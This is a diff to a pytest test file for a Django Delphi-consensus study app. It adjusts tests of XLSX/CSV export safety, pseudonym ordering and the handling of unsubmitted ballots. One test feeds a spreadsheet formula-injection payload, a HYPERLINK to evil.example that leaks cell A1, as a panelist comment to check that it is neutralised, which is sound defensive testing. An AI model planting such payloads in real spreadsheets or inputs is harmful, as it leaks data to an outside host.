@@ -7,6 +7,7 @@ import io
 import pytest
 from django.test import Client
 from django.urls import reverse
+from django.utils.translation import gettext as _
 from openpyxl import load_workbook
 
 from consensus import selectors
@@ -31,7 +32,7 @@ def _csv_rows(response) -> list[list[str]]:
 
 
 def _study_rated_with_comment(comment: str):
-    study = study_with_panel(n_items=1, n_panelists=2)
+    study = study_with_panel(n_items=1, n_panelists=5)
     first = round_open(user=study.created_by, study=study)
     item = first.round_items.get()
     for panelist in study.panelists.order_by("pk"):
@@ -47,8 +48,8 @@ def test_xlsx_export_turns_a_panelist_comment_into_a_live_formula():
     payload = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
     study = _study_rated_with_comment(payload)
     response = _client(committee_member()).get(reverse("consensus:export-xlsx", args=[study.pk]))
-    sheet = load_workbook(io.BytesIO(response.content)).active
-    comments = [row[5] for row in sheet.iter_rows(min_row=2)]
+    sheet = load_workbook(io.BytesIO(response.content))[_("Comments")]
+    comments = [row[3] for row in sheet.iter_rows(min_row=2)]
     assert comments, "the export has rating rows"
     for cell in comments:
         assert cell.data_type != "f", "a panelist's comment became a spreadsheet formula"
@@ -58,7 +59,9 @@ def test_csv_export_cells_starting_with_formula_characters_are_neutralised():
     """The CSV export writes a comment such as "=1+2" or "@SUM(A1)" as is: spreadsheet
     software evaluates it as a formula when the facilitator opens the file (CSV injection)."""
     study = _study_rated_with_comment("=1+2")
-    response = _client(committee_member()).get(reverse("consensus:export-csv", args=[study.pk]))
+    response = _client(committee_member()).get(
+        reverse("consensus:export-comments-csv", args=[study.pk])
+    )
     rows = _csv_rows(response)[1:]
     assert rows
     for row in rows:
@@ -163,10 +166,10 @@ def test_export_row_order_does_not_follow_panelist_invitation_order():
     round_close(user=study.created_by, delphi_round=first)
     pseudonyms = [row[3] for row in selectors.ratings_export_rows(study)]
     invitation_order = [
-        selectors.panelist_pseudonym(study.pk, p.pk) for p in study.panelists.order_by("pk")
+        selectors.panelist_pseudonym(study, 1, p.pk) for p in study.panelists.order_by("pk")
     ]
     assert len(set(pseudonyms)) == 6
-    # Currently pseudonyms == invitation_order; ordered by pseudonym, the order says nothing.
+    # Ordered by pseudonym, the order says nothing.
     assert pseudonyms == sorted(invitation_order)
 
 
@@ -182,18 +185,20 @@ def test_decision_post_with_a_non_numeric_item_is_not_a_server_error():
 def test_a_ballot_saved_but_never_submitted_is_left_out_everywhere():
     """The methods report counts submitted ballots: the statistics, the exports and the next
     round's feedback count the same panelists, not a partial ballot abandoned half-way."""
-    study = study_with_panel(n_items=1, n_panelists=2)
+    study = study_with_panel(n_items=1, n_panelists=6)
     first = round_open(user=study.created_by, study=study)
     item = first.round_items.get()
-    done, halfway = study.panelists.order_by("pk")
-    ballot_submit(user=done.user, delphi_round=first, answers={item.pk: Answer(8)})
+    *done, halfway = study.panelists.order_by("pk")
+    for panelist in done:
+        ballot_submit(user=panelist.user, delphi_round=first, answers={item.pk: Answer(8)})
     rating_save(user=halfway.user, round_item=item, score=1, comment="à revoir")
     round_close(user=study.created_by, delphi_round=first)
 
     [row] = selectors.study_results(study).report.items
-    assert (row.stats.n, row.stats.median) == (1, 8)
-    assert [r[4] for r in selectors.ratings_export_rows(study)] == [8]
+    assert (row.stats.n, row.stats.median) == (5, 8)
+    assert [r[4] for r in selectors.ratings_export_rows(study)] == [8] * 5
+    assert selectors.comments_export_rows(study) == []
     second = round_open(user=study.created_by, study=study)
-    _ballot, lines = selectors.ballot_for_panelist(done, second)
+    _ballot, lines = selectors.ballot_for_panelist(done[0], second)
     feedback = lines[0].feedback
-    assert (feedback.n, feedback.comments) == (1, [])
+    assert (feedback.n, feedback.comments) == (5, [])
